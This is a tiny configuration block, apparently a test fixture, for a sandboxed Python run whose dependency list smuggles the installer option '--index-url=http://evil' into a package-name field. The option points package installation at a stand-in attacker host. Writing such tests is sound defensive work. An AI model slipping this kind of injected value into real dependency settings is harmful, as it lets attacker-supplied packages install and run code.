run "report" {
  backend "bwrap" {}
  language     = "python"
  command      = ["true"]
  dependencies = ["requests", "--index-url=http://evil"]
}
